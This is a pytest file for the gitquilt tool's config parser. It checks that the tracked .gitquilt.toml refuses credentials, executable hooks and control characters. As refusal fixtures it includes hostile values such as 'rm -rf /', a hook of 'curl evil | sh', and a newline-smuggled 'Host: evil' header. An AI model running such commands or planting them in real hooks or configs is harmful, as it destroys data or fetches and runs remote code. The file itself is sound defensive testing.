"""gitquilt.config: the tracked .gitquilt.toml is untrusted; per-clone overrides win."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from gitquilt.config import (
    DEFAULT_JOBS,
    Config,
    cache_dir_override,
    check_no_control,
    dump_toml,
    load_toml,
    parse_config,
)
from gitquilt.errors import ConfigError


def _load(tmp_path: Path, text: str | bytes) -> dict[str, object]:
    p = tmp_path / ".gitquilt.toml"
    p.write_bytes(text.encode() if isinstance(text, str) else text)
    return load_toml(p)


@pytest.mark.parametrize(
    "text",
    [
        '[remotes.origin]\nurl = "s3://b/p"\naws_secret_access_key = "x"\n',
        '[remotes.origin]\nurl = "s3://b/p"\naws_access_key_id = "AKIA"\n',
        '[remotes.origin]\nurl = "s3://b/p"\naws_session_token = "t"\n',
        '[remotes.origin]\nurl = "s3://b/p"\nPassword = "p"\n',
        '[remotes.origin.options]\nsecret = "x"\n',
        'credentials = "x"\n',
        '[credential]\nhelper = "x"\n',
        '[core]\ncommand = "rm -rf /"\n',
        '[core]\nexec = "sh"\n',
        '[core]\nshell = "sh"\n',
        '[diff]\ntextconv = "sh -c x"\n',
        '[merge]\ndriver = "sh -c x"\n',
        '[tools]\nprogram = "x"\n',
        '[hooks]\npost_checkout = "curl evil | sh"\n',
        '[remotes.origin]\nurl = "s3://b/p"\nhook = "x"\n',
    ],
)
def test_credentials_and_executables_refused_in_tracked_config(tmp_path: Path, text: str) -> None:
    with pytest.raises(ConfigError, match="not allowed in the tracked config") as exc:
        _load(tmp_path, text)
    assert "\n" not in str(exc.value)
    assert "AKIA" not in str(exc.value) and "curl" not in str(exc.value)  # never echo the value


def test_hooks_autofetch_is_allowed(tmp_path: Path) -> None:
    doc = _load(tmp_path, "[hooks]\nautofetch = false\n")
    assert parse_config(doc).hooks_autofetch is False


@pytest.mark.parametrize(
    "text",
    [
        '[remotes.origin]\nurl = "s3://b/p\\nHost: evil"\n',
        '[remotes.origin]\nurl = "s3://b/p"\nendpoint_url = "http://127.0.0.1\\r\\n"\n',
        '[remotes.origin]\nurl = "s3://b/p"\nregion = "us\\u0000east"\n',
        '[remotes."or\\nigin"]\nurl = "s3://b/p"\n',
        '[core]\nlink_mode = "copy\\u007f"\n',
        '[remotes.origin]\nurl = "s3://b/p"\nprefix = "a\\tb"\n',
    ],
)
def test_control_characters_refused(tmp_path: Path, text: str) -> None:
    with pytest.raises(ConfigError, match="control character"):
        parse_config(_load(tmp_path, text))


def test_control_characters_refused_inside_lists(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="control character"):
        _load(tmp_path, '[remotes.origin]\nurl = "s3://b/p"\nextra = ["ok", "a\\nb"]\n')


def test_control_characters_refused_in_code_paths_that_skip_the_file() -> None:
    with pytest.raises(ConfigError, match="control character"):
        parse_config({"remotes": {"o": {"url": "s3://b\n"}}})
    with pytest.raises(ConfigError, match="control character"):
        check_no_control("a\x00", "x")
    assert check_no_control("s3://bücket/😀 p", "x") == "s3://bücket/😀 p"


def test_absent_file_is_empty(tmp_path: Path) -> None:
    assert load_toml(tmp_path / "nope.toml") == {}


@pytest.mark.parametrize("data", [b"[core\n", b"\xff\xfe", b"a = 1\na = 2\n"])
def test_invalid_toml_or_encoding(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(ConfigError, match="invalid TOML"):
        _load(tmp_path, data)


def test_unreadable_file(tmp_path: Path) -> None:
    (tmp_path / "dir.toml").mkdir()
    with pytest.raises(ConfigError, match="cannot read"):
        load_toml(tmp_path / "dir.toml")


def test_defaults() -> None:
    cfg = parse_config({})
    assert (cfg.remotes, cfg.default_remote, cfg.link_mode, cfg.jobs, cfg.fsync, cfg.autofetch, cfg.hooks_autofetch) == (
        {}, None, "copy", DEFAULT_JOBS, "batch", True, True
    )


def test_full_config_and_overrides(tmp_path: Path) -> None:
    doc = _load(
        tmp_path,
        '[core]\ndefault_remote = "origin"\nlink_mode = "hardlink"\njobs = 8\nfsync = "always"\n'
        '[checkout]\nautofetch = false\n'
        '[remotes.origin]\nurl = "s3://bucket/prefix"\nendpoint_url = "http://127.0.0.1:9000"\nregion = "eu-west-1"\n'
        'checksum = "when_required"\n'
        '[remotes.backup]\nurl = "/mnt/share/quilt"\n',
    )
    cfg = parse_config(doc)
    assert cfg.default_remote == "origin" and cfg.link_mode == "hardlink" and cfg.jobs == 8 and cfg.fsync == "always"
    assert cfg.autofetch is False
    o = cfg.remotes["origin"]
    assert (o.url, o.endpoint_url, o.region, o.options) == (
        "s3://bucket/prefix", "http://127.0.0.1:9000", "eu-west-1", {"checksum": "when_required"}
    )
    assert cfg.remotes["backup"].endpoint_url is None
    over = parse_config(doc, {"quilt.defaultremote": "backup", "quilt.linkmode": "symlink", "quilt.jobs": "3",
                              "quilt.fsync": "never", "quilt.checkout.autofetch": "yes", "quilt.hooks.autofetch": "0"})
    assert (over.default_remote, over.link_mode, over.jobs, over.fsync, over.autofetch, over.hooks_autofetch) == (
        "backup", "symlink", 3, "never", True, False
    )


@pytest.mark.parametrize(
    "doc, overrides, message",
    [
        ({"core": {"link_mode": "reflink"}}, {}, "link mode 'reflink'"),
        ({}, {"quilt.linkmode": "bogus"}, "link mode 'bogus'"),
        ({"core": {"jobs": "many"}}, {}, "jobs must be an integer"),
        ({"core": {"jobs": 0}}, {}, "between 1 and 1024"),
        ({}, {"quilt.jobs": "5000"}, "between 1 and 1024"),
        ({"core": {"fsync": "sometimes"}}, {}, "fsync must be"),
        ({"core": []}, {}, r"\[core\] must be a table"),
        ({"remotes": "x"}, {}, r"\[remotes\] must be a table"),
        ({"remotes": {"o": {}}}, {}, "remote 'o' needs a url"),
        ({"remotes": {"o": {"url": 1}}}, {}, "remote 'o' needs a url"),
        ({"remotes": {"o": {"url": "s3://b", "region": 1}}}, {}, "region must be a string"),
        ({"core": {"default_remote": 3}}, {}, "default_remote must be a string"),
    ],
)
def test_invalid_values(doc: dict[str, object], overrides: dict[str, str], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        parse_config(doc, overrides)


def test_cache_dir_override(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("QUILT_CACHE_DIR", raising=False)
    assert cache_dir_override(None) is None
    assert cache_dir_override(str(tmp_path)) == tmp_path
    monkeypatch.setenv("QUILT_CACHE_DIR", str(tmp_path / "env"))
    assert cache_dir_override(str(tmp_path)) == tmp_path / "env"  # the environment wins
    monkeypatch.setenv("QUILT_CACHE_DIR", "/tmp/x\ny")
    with pytest.raises(ConfigError, match="control character"):
        cache_dir_override(None)


def test_tracked_config_cannot_move_the_cache(tmp_path: Path) -> None:
    """Only the environment and git config choose the cache; the tracked file has no say."""
    cfg = parse_config(_load(tmp_path, '[cache]\ndir = "/etc"\n'))
    assert isinstance(cfg, Config)
    assert not hasattr(cfg, "cache_dir")


def test_dump_toml_round_trips() -> None:
    doc = {
        "core": {"default_remote": "origin", "jobs": 4, "fsync": "batch"},
        "remotes": {"origin": {"url": 's3://b/p "q" \\ x'}, "with space": {"url": "/mnt/q"}},
        "hooks": {"autofetch": False},
    }
    text = dump_toml(doc)
    assert text.startswith("# gitquilt repository configuration")
    assert tomllib.loads(text) == doc
    assert dump_toml(doc) == text
    with pytest.raises(ConfigError, match="cannot store"):
        dump_toml({"core": {"x": 1.5}})
